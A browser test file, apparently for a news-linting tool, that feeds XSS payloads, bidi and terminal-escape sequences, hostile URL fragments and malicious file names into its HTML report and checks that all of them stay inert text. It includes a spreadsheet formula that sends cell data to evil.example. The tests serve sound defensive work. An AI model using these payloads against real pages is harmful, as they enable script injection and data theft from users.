"""What a document, its name or somebody's rules say stays text on the page, in a real Chromium."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from newslint.formats.page import page as page_of
from newslint.model import Placed, Severity
from newslint.report import (
    Near,
    Particulars,
    PlacedFix,
    Problem,
    Reported,
    Sight,
    Suppressed,
    report_of,
)

from .conftest import Visit, reported

pytestmark = pytest.mark.browser

HOSTILE = {
    "end of a script": "</script><script>alert(1)</script>",
    "comment": "<!--<script>alert(1)</script>",
    "comment with a dash": "--><img src=x onerror=alert(1)><!--",
    "image": "<img src=https://evil.example/x.png onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "end of a style": "</style><style>*{background:url(https://evil.example/)}</style>",
    "end of a title": "</title></textarea><svg onload=alert(1)>",
    "attribute": '"\' autofocus onfocus=alert(1) x="',
    "script address": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "line separators": "a\u2028alert(1)\u2029b",
    "end of a string": '\\"); alert(1); ("\\u003c/script\\u003e',
    "prototype": "__proto__",
    "formula": '=HYPERLINK("https://evil.example/?"&A1)',
}
# What would be obeyed, or would show other text than stands there, and what is shown in its place.
STEERING = {
    "right to left": ("byline\u202egnp.exe", "byline\\u202egnp.exe"),
    "isolate": ("a\u2066b\u2069", "a\\u2066b\\u2069"),
    "terminal": ("\x1b]0;owned\x07\x1b[31m", "\\x1b]0;owned\\x07\\x1b[31m"),
    "null": ("a\x00b\x7f\x9b", "a\\x00b\\x7f\\x9b"),
    "half a character": ("a\ud800b", "a\\ud800b"),
}


def everywhere(text: str) -> Any:
    """A report that says a text wherever a document can say anything."""
    place = Placed(text, text, 1, 1, 1, 2, text)
    finding = Reported(
        rule="byline-missing",
        family="byline",
        severity=Severity.ERROR,
        scope="place",
        message=text,
        place=place,
        fingerprint=text,
        related=(Near(place, text), Near(Placed(f"{text}.md", None, 1, 1, 1, 2, text))),
        fix=PlacedFix(True, text, ()),
        page_count=30,
        pages=(text,),
        sight=Sight(text, text, (False, False)),
    )
    known = finding._replace(suppressed=Suppressed("waiver", text, text))
    return report_of(1, (finding, known), (Problem(text, text, text),))


def written(folder: Path, text: str) -> Path:
    told = Particulars(text, text, text, text, (text,), "2026-01-10")
    path = folder / "report.html"
    path.write_text("".join(page_of(everywhere(text), (told,))), "utf-8")
    return path


@pytest.mark.parametrize("name", HOSTILE)
def test_text_stays_text(tmp_path: Path, visit: Visit, name: str) -> None:
    text = HOSTILE[name]
    shown = text.translate({0x2028: "\\u2028", 0x2029: "\\u2029"})
    page = visit(written(tmp_path, text))
    assert page.title() == "newslint report: 1 finding in 1 document"
    assert page.locator("#list h3").text_content() == shown
    assert page.locator("#section option").last.get_attribute("value") == shown
    assert shown in page.locator("#unread ~ ul li").text_content()
    page.get_by_label("Author", exact=True).fill(shown)
    page.get_by_label("Words", exact=True).fill(shown.split()[0])
    page.get_by_label("Section", exact=True).select_option(shown)
    assert page.locator("#list h3").count() == 1
    page.locator("#list h3 a").click()
    page.locator("#article").wait_for()
    assert page.locator("#article h1").text_content() == shown
    assert page.locator("#article .evidence").first.text_content() == 3 * shown
    assert shown in page.locator("#article .extra").last.text_content()
    assert page.locator("#article a[href]:not([href^='#'], [href^='https:'])").count() == 0
    assert page.locator("script").count() == 1
    page.locator("#back").click()
    page.get_by_label("Accepted", exact=True).check()
    page.locator("#list h3 a").click()
    page.locator("#article").wait_for()


@pytest.mark.parametrize("name", STEERING)
def test_what_steers_other_text_is_spelled_out(tmp_path: Path, visit: Visit, name: str) -> None:
    text, shown = STEERING[name]
    path = written(tmp_path, text)
    assert not set(text) & set(path.read_text("utf-8")) - {"a", "b", *shown}
    page = visit(path)
    assert page.locator("#list h3").text_content() == shown
    page.locator("#list h3 a").click()
    page.locator("#article").wait_for()
    assert page.locator("#article h1").text_content() == shown


def test_a_hostile_question_in_the_address_finds_nothing(fixtures_page: Path, visit: Visit) -> None:
    for question in (
        "#words=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&rule=__proto__&order=constructor&page=-1e9&severity=toString",
        "#article=__proto__",
        "#article=1e99&finding=%3Cscript%3E",
        "#page=9999",
        "#%E0%A4%A",
    ):
        page = visit(fixtures_page, question)
        assert page.locator("#findings").is_visible()


PACK = {
    "pier.yaml": """\
title: A headline speaks of a pier
severity: warning
forbid-text:
  - in: headline
    words: [pier]
    message: "headline speaks of '{match}'"
authority: [EVIL, PLAIN]
""",
    "pier.md": """\
# pier

A headline speaks of a <script>alert(1)</script> pier.

<img src=x onerror=alert(1)> [Click](javascript:alert(1)) or [here](data:text/html,x), says EVIL, or `<b>code</b>`.
""",
    "authorities.yaml": """\
EVIL: {title: "<script>alert(1)</script>", url: "javascript:alert(1)"}
PLAIN: {title: A code, url: "https://code.example/\\"onclick=alert(1)"}
""",
}
HEADLINE = "</script><img src=x onerror=alert(1)> pier"
POST = f"""\
---
title: {json.dumps(HEADLINE)}
author: {json.dumps(HEADLINE)}
date: 2026-01-10
lang: en
---

The harbour council voted on January 6 to build a new pier, after two years of debate in the town.
"""
HTML = """\
<!doctype html><html lang="en"><head><title>&lt;/script>&lt;img src=x onerror=alert(1)> pier</title></head><body>
<article><h1>&lt;/script>&lt;img src=x onerror=alert(1)> pier<script>alert(1)</script></h1>
<p class="byline">By Mara Lindt</p>
<time datetime="2026-01-10T08:00:00Z">January 10, 2026</time>
<div class="entry-content"><p>The council voted on January 6 to build a new pier, after two years of debate.</p></div>
</article></body></html>
"""


def test_documents_and_packs_run_nothing(tmp_path: Path, visit: Visit) -> None:
    (tmp_path / "house").mkdir()
    for name, text in PACK.items():
        (tmp_path / "house" / name).write_text(text)
    with zipfile.ZipFile(tmp_path / "<b onclick=alert(1)>.zip", "w") as archive:
        archive.writestr("</script><script>alert(1)</script>.md", POST)
        archive.writestr("javascript:alert(1).html", HTML)
    page = visit(reported(tmp_path, "--pack", "house", "<b onclick=alert(1)>.zip", "--select", "house-pier"))
    assert page.locator("#list .finding").count() == 2
    assert HEADLINE in page.locator("#list").text_content()
    sources = page.locator(".fault .sources")
    assert sources.get_by_text("<script>alert(1)</script>").evaluate("it => it.localName") == "li"
    page.locator("#list h3 a").first.click()
    page.locator("#article").wait_for()
    addresses = page.locator("a[href]").evaluate_all("all => all.map(it => it.protocol)")
    assert set(addresses) == {"file:", "https:"}
    page.locator("#back").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Save as CSV").click()
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text("utf-8-sig"))))
    assert [row["address"] for row in rows] == ["</script><script>alert(1)</script>.md", "javascript:alert(1).html"]
